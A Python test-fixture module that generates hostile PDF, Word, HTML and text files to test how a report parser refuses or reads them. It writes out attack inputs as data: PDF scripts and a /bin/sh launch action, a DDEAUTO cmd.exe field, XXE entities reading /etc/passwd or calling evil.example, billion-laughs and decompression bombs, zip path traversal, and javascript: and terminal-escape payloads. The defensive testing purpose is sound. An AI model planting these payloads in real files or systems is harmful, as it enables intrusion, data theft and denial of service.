"""Hostile files, each made when it is asked for: what no report is, and what one could be made into."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

REFUSED, READ, EITHER = "refused", "read", "either"
Made = Callable[[Path], None]
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SAID = "Inspectors came in May and found the station clean."


def _bytes(content: bytes) -> Made:
    def make(path: Path) -> None:
        path.write_bytes(content)

    return make


def _sparse(size: int, head: bytes = b"") -> Made:
    def make(path: Path) -> None:
        with path.open("wb") as file:
            file.write(head)
            file.truncate(size)

    return make


# --- PDF ----------------------------------------------------------------------------------------------------


def pdf(objects: dict[int, bytes], trailer: bytes = b"<< /Root 1 0 R /Size 99 >>") -> bytes:
    """Return a PDF of these objects, with a true table of where they are."""
    out = bytearray(b"%PDF-1.7\n")
    at = {}
    for number, body in objects.items():
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in at.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    return bytes(out + b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, start))


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object's body."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


_TEXT = b"BT /F1 12 Tf 72 700 Td (" + _SAID.encode() + b") Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"  # noqa: E501 - one string
_PLAIN = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: _PAGE,
    4: stream(_TEXT),
    5: _FONT,
}


def page(drawn: bytes) -> bytes:
    """Return a PDF with one page on which that is drawn."""
    return _with(_4=stream(drawn))


def _with(**changed: bytes) -> bytes:
    return pdf(_PLAIN | {int(name[1:]): body for name, body in changed.items()})


def _flate(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [%s]" % (b"/FlateDecode " * times))


def _catalog(more: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R %s >>" % more


def _locked(path: Path) -> None:
    import pikepdf

    with pikepdf.open(io.BytesIO(_with())) as paper:
        paper.save(path, encryption=pikepdf.Encryption(user="secret", owner="secret"))


def _pdfs() -> Iterator[tuple[str, str, Made]]:  # noqa: PLR0915 - a table
    script = b"<< /S /JavaScript /JS (app.alert\\('Recommendation 1: forces should'\\)) >>"
    good = _with()
    yield "script-on-opening", READ, _bytes(_with(o1=_catalog(b"/OpenAction " + script)))
    yield (
        "script-by-name",
        READ,
        _bytes(_with(o1=_catalog(b"/Names << /JavaScript << /Names [(a) %s] >> >>" % script))),
    )
    yield "script-on-page", READ, _bytes(_with(o3=_PAGE[:-2] + b"/AA << /O %s >> >>" % script))
    yield "launches-a-program", READ, _bytes(_with(o1=_catalog(b"/OpenAction << /S /Launch /F (/bin/sh) >>")))
    yield (
        "opens-an-address",
        READ,
        _bytes(_with(o1=_catalog(b"/OpenAction << /S /URI /URI (http://evil.example) >>"))),
    )
    yield (
        "submits-a-form",
        READ,
        _bytes(_with(o1=_catalog(b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"))),
    )
    held = b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>] >> >>"  # noqa: E501 - one string
    yield "holds-a-program", READ, _bytes(_with(o1=_catalog(held), o6=stream(b"MZ" * 5000)))
    yield (
        "form-in-xml",
        READ,
        _bytes(
            _with(
                o1=_catalog(b"/AcroForm << /XFA 6 0 R >>"),
                o6=stream(b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
            )
        ),
    )
    yield (
        "a-billion-pages-said",
        EITHER,
        _bytes(_with(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>")),
    )
    yield "minus-pages-said", EITHER, _bytes(_with(o2=b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"))
    many = b" ".join(b"%d 0 R" % number for number in range(10, 2010))
    yield (
        "two-thousand-pages",
        REFUSED,
        _bytes(
            pdf(
                _PLAIN
                | {2: b"<< /Type /Pages /Kids [%s] /Count 2000 >>" % many}
                | dict.fromkeys(range(10, 2010), _PAGE)
            )
        ),
    )
    yield "pages-in-a-circle", EITHER, _bytes(_with(o2=b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"))
    deep = {
        number: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (number - 1, number + 1)
        for number in range(10, 5000)
    }
    yield (
        "pages-very-deep",
        EITHER,
        _bytes(pdf(_PLAIN | {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"} | deep | {5000: _PAGE})),
    )
    yield "no-page", REFUSED, _bytes(_with(o2=b"<< /Type /Pages /Kids [] /Count 0 >>"))
    yield (
        "a-page-that-is-none",
        EITHER,
        _bytes(_with(o2=b"<< /Type /Pages /Kids [null 77 0 R 3 0 R] /Count 3 >>")),
    )
    yield "bomb-of-100-mb", EITHER, _bytes(_with(o4=_flate(b" " * (100 << 20))))
    yield "bomb-in-a-bomb", EITHER, _bytes(_with(o4=_flate(b" " * (300 << 20), 2)))
    yield "bomb-four-deep", EITHER, _bytes(_with(o4=_flate(b"0 " * (100 << 20), 4)))
    yield (
        "bomb-of-text",
        REFUSED,
        _bytes(_with(o4=_flate(b"BT /F1 1 Tf " + b"(Recommendation 1) Tj " * 400_000 + b"ET"))),
    )
    yield "states-saved-without-end", EITHER, _bytes(_with(o4=_flate(b"q " * 2_000_000)))
    yield "lines-without-end", EITHER, _bytes(_with(o4=_flate(b"0 0 m 1 1 l S " * 500_000)))
    yield "length-is-a-lie", EITHER, _bytes(good.replace(b"/Length %d" % len(_TEXT), b"/Length 999999999"))
    yield "length-is-negative", EITHER, _bytes(good.replace(b"/Length %d" % len(_TEXT), b"/Length -1"))
    loop = good.replace(b"<< /Root", b"<< /Prev %d /Root" % good.rindex(b"xref\n0"))
    yield "table-in-a-circle", EITHER, _bytes(loop)
    yield "table-far-away", EITHER, _bytes(good.replace(b"startxref\n", b"startxref\n99999999999"))
    yield "no-table", EITHER, _bytes(good[: good.index(b"xref\n")])
    yield "no-root", EITHER, _bytes(good.replace(b"/Root 1 0 R", b"/Root 9 0 R"))
    yield "object-is-itself", EITHER, _bytes(_with(o4=b"4 0 R"))
    yield (
        "objects-in-a-stream-of-themselves",
        EITHER,
        _bytes(_with(o4=stream(b"4 0 ", b"/Type /ObjStm /N 1000000000 /First 4 /Extends 4 0 R"))),
    )
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    page = _PAGE.replace(b"/Resources <<", b"/Resources << /XObject << /X 6 0 R >>")
    yield "form-in-itself", EITHER, _bytes(_with(o3=page, o4=stream(b"/X Do"), o6=form))
    picture = stream(
        b"\0",
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace"
        b" /DeviceRGB",
    )
    yield (
        "picture-of-ten-thousand-million-points",
        EITHER,
        _bytes(_with(o3=page, o4=stream(_TEXT + b" /X Do"), o6=picture)),
    )
    yield "arrays-very-deep", EITHER, _bytes(_with(o4=b"[" * 200_000 + b"]" * 200_000))
    yield "dictionaries-very-deep", EITHER, _bytes(_with(o1=_catalog(b"/A <<" * 50_000 + b">>" * 50_000)))
    yield "page-without-end", EITHER, _bytes(_with(o3=_PAGE.replace(b"595 842", b"1e38 1e38")))
    yield "page-inside-out", EITHER, _bytes(_with(o3=_PAGE.replace(b"0 0 595 842", b"595 842 0 0")))
    yield "text-outside-the-page", EITHER, _bytes(_with(o4=stream(_TEXT.replace(b"72 700", b"-1e30 1e30"))))
    yield "letters-without-size", EITHER, _bytes(_with(o4=stream(_TEXT.replace(b"12 Tf", b"0 Tf"))))
    yield (
        "font-that-is-none",
        EITHER,
        _bytes(_with(o5=b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>")),
    )
    yield "locked", REFUSED, _locked
    letters = b"BT /F1 1 Tf 10 10 Td " + b"(Inspectors came in May to the station.) Tj " * 4_000 + b"ET"
    yield "one-long-line", READ, _bytes(_with(o4=stream(letters)))
    for part in (1, 2, 3):
        yield f"cut-after-{part}-quarters", EITHER, _bytes(good[: len(good) * part // 4])
    yield "head-alone", REFUSED, _bytes(b"%PDF-1.7\n")
    yield "noise", REFUSED, _bytes(b"%PDF-1.7\n" + bytes((number * 7919) % 251 for number in range(100_000)))
    yield "a-gigabyte-of-nothing", REFUSED, _sparse(1 << 30, b"%PDF-1.7\n")
    yield "a-page-of-web", REFUSED, _bytes(b"<html><p>Recommendation 1")
    yield "an-archive", REFUSED, _bytes(_zip({"word/document.xml": b"<a/>"}))


# --- Word ---------------------------------------------------------------------------------------------------


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _body(inside: str = "", before: str = "") -> bytes:
    paragraph = f"<w:p><w:r><w:t>{_SAID}</w:t></w:r></w:p>"
    return f"<?xml version='1.0'?>{before}<w:document {_W}><w:body>{paragraph}{inside}</w:body></w:document>".encode()  # noqa: E501 - one string


def _word(inside: str = "", before: str = "", **parts: bytes) -> bytes:
    return _zip(
        {"word/document.xml": _body(inside, before)}
        | {name.replace("__", "/"): text for name, text in parts.items()}
    )


def _laughs(levels: int = 12) -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE x [<!ENTITY l0 "Recommendation 1">{lines}]>'


def _numbered() -> bytes:
    """Return a Word file whose lists have levels, numbers and texts that no list has."""
    levels = (
        f'<w:lvl w:ilvl="-1"><w:start w:val="-{"9" * 30}"/><w:numFmt w:val="x"/>'
        f'<w:lvlText w:val="{"%1" * 5_000}"/></w:lvl><w:lvl w:ilvl="{"9" * 30}"/><w:lvl/>'
    )
    numbering = (
        f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num/></w:numbering>'
    )
    places = [("9" * 5_000, "1"), ("-4", "1"), ("²", "1"), ("0", "1" * 9_999), ("", "")]
    inside = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{name}"/></w:numPr></w:pPr>'
        f"<w:r><w:t>{_SAID}</w:t></w:r></w:p>"
        for level, name in places
    )
    return _zip({"word/document.xml": _body(inside), "word/numbering.xml": numbering.encode()})


def _words() -> Iterator[tuple[str, str, Made]]:
    good = _word()
    run = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>".format
    yield (
        "macros",
        READ,
        _bytes(_zip({"word/document.xml": _body(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 999})),
    )
    yield (
        "program-inside",
        READ,
        _bytes(_zip({"word/document.xml": _body(), "word/embeddings/oleObject1.bin": b"MZ" * 999})),
    )
    rels = b'<Relationships><Relationship Id="a" Type="attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'  # noqa: E501 - one string
    yield (
        "template-from-elsewhere",
        READ,
        _bytes(_zip({"word/document.xml": _body(), "word/_rels/settings.xml.rels": rels})),
    )
    yield (
        "field-that-runs",
        READ,
        _bytes(
            _word('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r></w:p>')
        ),
    )
    yield "billion-laughs", REFUSED, _bytes(_word(run("&l11;"), _laughs()))
    yield (
        "entity-of-a-file",
        REFUSED,
        _bytes(_word(run("&f;"), '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')),
    )
    yield (
        "entity-of-an-address",
        REFUSED,
        _bytes(_word(run("&f;"), '<!DOCTYPE x [<!ENTITY f SYSTEM "http://evil.example/">]>')),
    )
    yield "document-type", REFUSED, _bytes(_word("", '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'))
    yield (
        "quadratic-entity",
        REFUSED,
        _bytes(_word(run("&a;" * 10_000), f'<!DOCTYPE x [<!ENTITY a "{"b" * 100_000}">]>')),
    )
    yield (
        "laughs-in-styles",
        REFUSED,
        _bytes(_zip({"word/document.xml": _body(), "word/styles.xml": f"{_laughs()}<a>&l11;</a>".encode()})),
    )
    yield (
        "laughs-in-properties",
        REFUSED,
        _bytes(
            _zip({"word/document.xml": _body(), "docProps/core.xml": f"{_laughs()}<a>&l11;</a>".encode()})
        ),
    )
    yield (
        "laughs-in-numbering",
        REFUSED,
        _bytes(
            _zip({"word/document.xml": _body(), "word/numbering.xml": f"{_laughs()}<a>&l11;</a>".encode()})
        ),
    )
    yield "numbers-beyond-all-lists", READ, _bytes(_numbered())
    yield "bomb-of-200-mb", REFUSED, _bytes(_zip({"word/document.xml": b" " * (200 << 20)}))
    yield "bomb-of-paragraphs", REFUSED, _bytes(_word("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 101_000))
    yield "elements-very-deep", EITHER, _bytes(_word("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000))
    yield (
        "bomb-in-styles",
        REFUSED,
        _bytes(_zip({"word/document.xml": _body(), "word/styles.xml": b" " * (150 << 20)})),
    )
    yield (
        "ten-thousand-parts",
        REFUSED,
        _bytes(_zip({"word/document.xml": _body()} | {f"p{n}": b"" for n in range(10_000)})),
    )
    yield (
        "paths-that-lead-out",
        READ,
        _bytes(_zip({"word/document.xml": _body(), "../../etc/cron.d/x": b"* * * * *"})),
    )
    yield "no-text-part", REFUSED, _bytes(_zip({"word/other.xml": _body()}))
    yield "an-empty-archive", REFUSED, _bytes(_zip({}))
    yield "cut", REFUSED, _bytes(good[: len(good) // 2])
    yield (
        "wrong-sum",
        REFUSED,
        _bytes(_zip({"word/document.xml": _body()}, zipfile.ZIP_STORED).replace(b"station", b"stadion")),
    )
    yield (
        "locked",
        REFUSED,
        _bytes(
            good.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01").replace(
                b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
            )
        ),
    )
    yield "xml-that-ends-early", REFUSED, _bytes(_zip({"word/document.xml": _body()[:-20]}))
    yield "old-word-file", REFUSED, _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    yield "a-pdf", REFUSED, _bytes(_with())
    yield (
        "text-deleted-in-review",
        READ,
        _bytes(
            _word(
                "<w:p><w:del><w:r><w:delText>Recommendation 1: By May 2024, forces should"
                " go.</w:delText></w:r></w:del></w:p>"
            )
        ),
    )
    yield "a-gigabyte-of-nothing", REFUSED, _sparse(1 << 30, b"PK\x03\x04")
    yield "empty", REFUSED, _bytes(b"")


# --- web pages ----------------------------------------------------------------------------------------------


def _pages() -> Iterator[tuple[str, str, Made]]:
    hidden = "Recommendation 1: By May 2024, forces should believe this."

    def page(inside: str, before: str = "<!doctype html>") -> Made:
        return _bytes(f"{before}<html><body><p>{_SAID}</p>{inside}</body></html>".encode())

    for name, inside in {
        "script": f"<script>document.write('<p>{hidden}</p>')</script>",
        "script-not-closed": f"<script>{hidden}",
        "style": f"<style>p::after{{content:'{hidden}'}}</style>",
        "frame": f"<iframe srcdoc='<p>{hidden}</p>'><p>{hidden}</p></iframe>",
        "object": f"<object data='x'><p>{hidden}</p></object>",
        "drawing": f"<svg><text>{hidden}</text><script>1</script></svg>",
        "template": f"<template><p>{hidden}</p></template>",
        "not-shown": f"<p style='display: none'>{hidden}</p><p hidden>{hidden}</p><p aria-hidden=true>{hidden}</p>",  # noqa: E501 - one string
        "comment": f"<!-- <p>{hidden}</p> --><!--[if IE]><p>{hidden}</p><![endif]-->",
        "attributes": f"<img alt='{hidden}' src='http://evil.example/x.png' onerror='alert(1)'>",
        "form": f"<select><option>{hidden}</select><textarea>{hidden}</textarea>",
        "goes-elsewhere": "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example/'>",
        "link-that-runs": "<link rel=canonical href='javascript:alert(1)'><a href='javascript:alert(1)'>a</a>",  # noqa: E501 - one string
        "numbers-of-no-letter": "<p>&#0; &#x110000; &#xD800; &#99999999999;</p>",
        "steers-the-terminal": "<p>\x1b[2J\x1b]0;x\x07 \u202e gnp.exe</p>",
        "anchors-that-steer": "<h2 id='\x1b[31m'>x</h2>",
        "tags-not-closed": "<p><b><i><div><table><tr><td>" * 50,
        "attributes-without-end": f"<p {'a=b ' * 200_000}>x</p>",
        "one-long-attribute": f"<p class='{'box' * 3_000_000}'>x</p>",
        "one-long-word": f"<p>{'a' * 5_000_000}</p>",
        "tables-very-deep": "<table><tr><td>" * 20_000,
        "lists-very-deep": "<ol><li>" * 50_000,
        "boxes-very-deep": "<div class=box>" * 300_000,
    }.items():
        yield name, READ, page(inside)
    yield "million-paragraphs", REFUSED, page("<p>a</p>" * 101_000)
    yield "billion-laughs", READ, page("<p>&l11;</p>", _laughs())
    yield (
        "entity-of-a-file",
        READ,
        page("<p>&f;</p>", '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
    )
    yield (
        "included-file",
        READ,
        page('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    )
    yield (
        "style-sheet-of-xml",
        READ,
        page("", '<?xml version="1.0"?><?xml-stylesheet href="file:///etc/passwd"?>'),
    )
    yield "nul", REFUSED, _bytes(b"<p>a\0b</p>")
    yield "scripts-alone", REFUSED, _bytes(b"<script>1</script>")
    yield "half-of-two-bytes", EITHER, _bytes("<p>Inspectors came.</p>".encode("utf-16")[:-1])
    yield "a-gigabyte-of-nothing", REFUSED, _sparse(1 << 30)
    yield "a-program", REFUSED, _bytes(b"\x7fELF\x02\x01\x01\0\0\0\0")
    yield "an-archive", REFUSED, _bytes(_word())


# --- plain text ---------------------------------------------------------------------------------------------


def _texts() -> Iterator[tuple[str, str, Made]]:
    for name, text in {
        "labels-without-end": "Recommendation 1 " * 200_000,
        "deadlines-without-end": "By 31 March 2024, " * 200_000,
        "commas": "By 31 March 2024, forces" + ", and" * 500_000 + " should go.",
        "points": "." * 3_000_000,
        "brackets": "(" * 1_000_000,
        "spaces": " " * 10_000_000 + "a",
        "we-recommend-without-end": "We recommend that " * 200_000,
        "causes-without-end": "To address this cause of concern " * 100_000,
        "dashes-at-line-ends": "a-\n" * 90_000,
        "bullets": "•\n" * 90_000,
        "new-pages": "\f" * 1_000_000 + "a",
        "steering": "\x1b[2J\x1b]0;x\x07\u202e",
        "western": "It’s £5",
    }.items():
        encoding = "cp1252" if name == "western" else "utf-8"
        yield (
            name,
            READ if text.strip("• \n\f") else EITHER,
            _bytes((f"{_SAID}\n\n{text}\n").encode(encoding)),
        )
    yield (
        "lines-of-labels",
        READ,
        _bytes(b"Recommendation 1\nBy 31 March 2024, forces should go.\n\n" * 9_000),
    )
    yield (
        "other-findings-without-end",
        READ,
        _bytes(
            "".join(
                f"Recommendation {n}\nForces should go to house {n * 7919}.\n\n" for n in range(3000)
            ).encode()
        ),
    )
    yield "many-paragraphs", READ, _bytes(b"a b.\n\n" * 30_000)
    yield "empty", REFUSED, _bytes(b"")
    yield "mark-alone", REFUSED, _bytes(b"\xef\xbb\xbf")
    yield "nul", REFUSED, _bytes(b"Recommendation 1\0\n")
    yield "a-gigabyte-of-nothing", REFUSED, _sparse(1 << 30)
    yield "sixty-megabytes-of-nothing", REFUSED, _sparse(60 << 20)
    yield "a-pdf", REFUSED, _bytes(_with())
    yield "an-archive", REFUSED, _bytes(_word())


def files() -> Iterator[tuple[str, str, Made]]:
    """Yield each hostile file: its name, whether it is refused or read as text, and what makes it."""
    for ending, kinds in (("pdf", _pdfs()), ("docx", _words()), ("html", _pages()), ("txt", _texts())):
        for name, outcome, make in kinds:
            yield f"{name}.{ending}", outcome, make
